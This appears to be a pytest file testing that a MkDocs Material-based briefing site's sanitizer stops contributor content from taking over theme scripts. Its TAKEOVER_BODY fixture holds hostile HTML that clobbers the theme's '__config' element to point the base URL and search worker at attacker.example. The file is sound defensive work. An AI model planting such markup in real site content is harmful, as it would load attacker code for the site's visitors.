"""Contributors' text never takes over the theme: no id, class or data attribute the theme's scripts
act on comes from content, and no title reaches a script that would parse it as HTML (issue 13)."""

from __future__ import annotations

import json

import lxml.html
import pytest
from hostile_content import generate_batches, hostile_files
from safety import site_problems

from briefing.render import sanitize
from support import MINIMAL_REGISTRY, build, make_project, note

TAKEOVER_BODY = """Le fait <span id="__config" class="md-header">{"base": "https://attacker.example/"}</span>.

<div id="__config">{"base": "https://attacker.example/", "search": "https://attacker.example/x.js"}</div>

<p id="__search" class="md-dialog md-dialog--active ok" data-md-component="announce">Faux message</p>

<div id="__drawer" data-md-state="lock" data-tabs="1" data-preview="" data-search-exclude>encadré</div>

<pre class="mermaid"><code>graph TD; A--&gt;B</code></pre>

<ol class="annotate"><li>note</li></ol>

<p id="_x" class="no-copy select tabbed-set highlight" lang="en">English</p>

## __toc

Fin[^1].

[^1]: Une note.
"""
THEME_IDS = ("__config", "__search", "__drawer", "__toc")


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [
        ('<div id="__config">x</div>', "<div>x</div>"),
        ('<div id="__search" class="md-search ok">x</div>', '<div class="ok">x</div>'),
        ('<p class="mermaid annotate highlight copy no-select tabbed-set">x</p>', "<p>x</p>"),
        ('<p data-md-component="search" data-tabs="1" data-preview="">x</p>', "<p>x</p>"),
        ('<p data-search-exclude="">x</p>', '<p data-search-exclude="">x</p>'),
        ('<h2 id="2023-08">x</h2>', '<h2 id="2023-08">x</h2>'),
        ('<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
         '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>'),
        ('<a class="tl-mark tl-point briefing-term" title="x">y</a>',
         '<a class="tl-mark tl-point briefing-term" title="x">y</a>'),
        ('<div class="admonition note" id="été">x</div>', '<div class="admonition note" id="été">x</div>'),
    ],
)
def test_the_sanitizer_keeps_content_names_and_refuses_the_themes(fragment, expected):
    assert sanitize.clean(fragment) == expected


@pytest.fixture(scope="module")
def takeover_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("takeover")
    files = {
        **MINIMAL_REGISTRY,
        "events/2024/2024-05-01-prise.md": note(
            "date: 2024-05-01\ntitle: Prise de contrôle\ncountries: [Japon, Prisie]", TAKEOVER_BODY),
        "docs/pays/prisie.md": note("title: Prisie\nabbr: PRZ", TAKEOVER_BODY),
        "docs/lettres/3-prise.md": note("number: 3\nissue: 2024-05\nzones: [Japon]\ntitle: Lettre",
                                        TAKEOVER_BODY.replace("## __toc", "<!-- more -->\n\n## __toc")),
    }
    result = build(make_project(root / "project", files), root / "site")
    assert result.returncode == 0, result.output
    return result


@pytest.mark.parametrize("url", ["evenements/2024-05-01-prise/", "lettres/3-prise/", "pays/prisie/", "glossaire/"])
def test_the_themes_ids_classes_and_components_are_the_themes_own(takeover_site, url):
    """``id="__config"`` in a note replaced Material's runtime configuration (search worker, base URL)."""
    page = takeover_site.page(url)
    for theme_id in THEME_IDS:
        elements = page.xpath(f"//*[@id='{theme_id}']")
        assert len(elements) <= 1 and not page.xpath(f"//article//*[@id='{theme_id}']"), theme_id
    config = json.loads(page.xpath("//script[@id='__config']")[0].text)
    assert "attacker" not in json.dumps(config) and config["search"].endswith(".min.js")
    article = page.xpath("//article")[0]
    assert not article.xpath(".//*[@data-md-component or @data-tabs or @data-preview or @data-md-state]")
    classes = " ".join(article.xpath(".//*/@class")).split()
    assert not [c for c in classes if c.startswith(("md-", "tabbed-")) or c in sanitize.THEME_CLASSES]
    assert article.xpath(".//span[not(@id)][not(@class)][contains(., 'attacker')]")  # kept as text
    if url == "glossaire/":
        return  # the glossary holds the entry's first paragraph only
    assert article.xpath(".//div[not(@id)][contains(., 'encadré')]")
    assert article.xpath(".//p[@class='ok'][contains(., 'Faux message')]")
    assert article.xpath(".//p[@lang='en'][not(@id)][contains(., 'English')]")
    if url.startswith("evenements/"):  # the letter's footnote is in its analysis, withheld in this edition
        assert article.xpath(".//sup[starts-with(@id, 'fnref:')]") and article.xpath(".//*[starts-with(@id, 'fn:')]")


def _features(page) -> list[str]:
    return json.loads(page.xpath("//script[@id='__config']")[0].text)["features"]


def test_no_page_turns_a_title_into_html(public_site):
    """Material's ``content.tooltips`` inserts every title (and the text of every truncated navigation
    entry) with innerHTML; every page has the site's text-only tooltips instead."""
    pages = sorted(public_site.site.rglob("*.html"))
    assert len(pages) > 30
    for path in pages:
        page = public_site.page(path.relative_to(public_site.site).as_posix())
        if not page.xpath("//script[@id='__config']"):
            continue  # a redirect or a fragment: no theme script
        assert not set(_features(page)) & set(sanitize.UNSAFE_THEME_FEATURES), path
        assert any(src.endswith("assets/briefing-tooltips.js") for src in page.xpath("//script/@src")), path


def test_the_build_refuses_a_theme_feature_that_parses_titles_as_html(tmp_path):
    project = make_project(tmp_path / "project", MINIMAL_REGISTRY)
    config = project / "mkdocs.yml"
    text = config.read_text("utf-8")
    config.write_text(text.replace("  features:\n", "  features:\n    - content.tooltips\n", 1), "utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "theme.features: content.tooltips" in result.output and "Traceback" not in result.output


def test_generated_hostile_content_leaves_nothing_executable_in_any_file(tmp_path):
    """The browser test's generated content (tests/hostile_content.py), scanned statically: every page,
    the search index, feeds, calendars and JSON (the payloads carry ``XSS`` or call ``__pwn``)."""
    batches = generate_batches()
    result = build(make_project(tmp_path / "project", hostile_files(batches)), tmp_path / "site")
    assert result.returncode == 0 and "Traceback" not in result.output, result.output
    problems, scanned = site_problems(result.site)
    assert len([name for name in scanned if name.startswith("evenements/")]) == len(batches)
    assert problems == []
    for path in result.site.rglob("*.html"):
        code = lxml.html.fromstring(path.read_bytes()).xpath("//script[not(contains(@type, 'json'))]/text()")
        assert "__pwn" not in "".join(code), path  # JSON-LD holds the text as data, checked by site_problems
